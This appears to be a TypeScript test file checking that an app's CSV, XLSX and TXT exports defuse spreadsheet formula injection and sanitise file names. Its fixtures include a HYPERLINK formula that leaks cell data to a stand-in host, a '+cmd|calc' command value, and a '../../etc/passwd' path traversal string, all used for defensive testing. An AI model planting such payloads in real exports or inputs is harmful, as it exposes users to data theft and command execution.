// No cell the app writes is a spreadsheet formula (issue 17): a reach named
// =HYPERLINK(…) reaches csv, xlsx and txt with a leading ', numbers stay numbers, and typed names
// never become unsafe file names.
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { csvFormat } from '../../src/domain/formats/csv/csv.format';
import { exportFeatures } from '../../src/domain/formats/export/export-features';
import { txtFormat } from '../../src/domain/formats/txt/txt.format';
import { xlsxFormat } from '../../src/domain/formats/xlsx/xlsx.format';
import { fileStem } from '../../src/domain/text/file-stem';
import { exportStem } from '../../src/ui/workspace/files/export-choices';
import { ctxOf, fc, marker, readCsvTable, utf8, writeOk } from '../helpers/coordinate-tables';
import { ogrToGeoJson, withTempDir, writeFiles } from '../helpers/gdal';

const EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
const FORMULA = /^[=+\-@\t\r]/;
const input = fc([
  marker({ lon: 108.6, lat: 21.95, reach: EVIL, river: '+cmd|calc', id: '@SUM(1)' }),
  marker({ lon: 108.61, lat: 21.951, reach: EVIL, river: '-2+3', id: 'QJ01-GL-L-002', seq: 2 }),
]);

describe('formula cells', () => {
  it('csv: every text cell that would be a formula gets a leading quote; numbers stay numbers', () => {
    const [file] = writeOk(csvFormat, input, ctxOf('EPSG:4545')).files;
    const table = readCsvTable(utf8(file as never));
    expect(table.rows.map((r) => [r.点号, r.河流, r.河段])).toEqual([
      ["'@SUM(1)", "'+cmd|calc", `'${EVIL}`],
      ['QJ01-GL-L-002', "'-2+3", `'${EVIL}`],
    ]);
    for (const row of table.rows)
      for (const [column, value] of Object.entries(row)) {
        expect(FORMULA.test(value as string), `${column} ${value}`).toBe(false);
        if (column === 'X' || column === 'Y') expect(Number(value)).toBeGreaterThan(0);
      }
  });

  it('xlsx, read back by GDAL: the reach is text with a leading quote, coordinates are numbers', () => {
    const files = writeOk(xlsxFormat, input, ctxOf('EPSG:4545')).files;
    withTempDir((dir) => {
      writeFiles(dir, files);
      const path = join(dir, files[0]?.name as string);
      const rows = ogrToGeoJson(path, '管理范围线界桩', ['-oo', 'HEADERS=DISABLE']).features.map(
        (f) => Array.from({ length: 12 }, (_, j) => f.properties?.[`Field${j + 1}`] ?? null),
      );
      const at = rows.findIndex((r) => r[0] === '点号');
      const header = rows[at] as string[];
      const data = rows.slice(at + 1);
      expect(data.map((r) => r[header.indexOf('河段')])).toEqual([`'${EVIL}`, `'${EVIL}`]);
      expect(data.map((r) => r[0])).toEqual(["'@SUM(1)", 'QJ01-GL-L-002']);
      for (const r of data) {
        for (const cell of r) if (typeof cell === 'string') expect(FORMULA.test(cell)).toBe(false);
        expect(Number(r[header.findIndex((h) => /^X/.test(h))])).toBeGreaterThan(2_000_000);
      }
    });
  });

  it('txt: block names and point labels are neutralised too', () => {
    const [file] = writeOk(txtFormat, input, ctxOf('EPSG:4545')).files;
    const text = utf8(file as never);
    // a block header ends with the format's own field '@'
    for (const line of text.split(/\r?\n/))
      for (const cell of line.split(','))
        if (cell !== '@') expect(FORMULA.test(cell), line).toBe(false);
    expect(text).toContain("'@SUM(1)");
  });

  it('typed names never become unsafe file names', () => {
    expect(fileStem(EVIL)).toBe('HYPERLINK(-http-evil.example-x=-&A1,-click-)');
    expect(fileStem('../../etc/passwd')).toBe('etc-passwd');
    expect(fileStem('a\u0000b\nc')).toBe('a-b-c');
    expect(fileStem('...')).toBe('export');
    expect(fileStem('钦'.repeat(200))).toHaveLength(80);
    const at = new Date('2026-12-02T00:00:00Z');
    expect(exportStem(EVIL, '=1+1', { nameTag: '' }, 2, 'EPSG:4545', at)).toBe(
      'HYPERLINK(-http-evil.example-x=-&A1,-click-)_1+1_v2_EPSG4545_20261202',
    );
    const out = exportFeatures(input, {
      format: 'csv',
      crs: 'EPSG:4545',
      encoding: 'utf-8',
      baseName: '=cmd/../x',
      schema: 'en',
    });
    expect(out.ok && out.files.map((f) => f.name)).toEqual(['cmd-..-x-管理范围线界桩.csv']);
  });
});
